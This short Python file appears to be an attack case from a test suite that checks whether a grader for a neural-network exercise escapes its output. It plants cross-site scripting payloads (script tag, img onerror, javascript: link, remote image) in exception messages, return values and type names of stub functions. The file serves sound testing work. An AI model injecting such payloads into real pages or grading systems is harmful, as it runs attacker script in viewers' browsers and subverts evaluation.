# ATTACK: o_markup_in_errors
# GROUP: output
# GOAL: markup, scripts and pictures in the names and texts of exceptions, in types and in answers
# SUCCESS: markup is alive in a page
# CHECK: html
# EARNED: 0
# BASE: none
EVIL = "<script>alert(1)</script><img src=x onerror=alert(1)>[x](javascript:alert(1))![i](http://example.org/i.png)"
def relu(x): raise ValueError(EVIL)
def softmax(x): return EVIL
def cross_entropy(y, t): raise type(EVIL, (Exception,), {})(EVIL)
def numerical_gradient(f, x): return type(EVIL, (), {})()
class TwoLayerNet:
    def __init__(self, *sizes): self.params = {EVIL: 1}
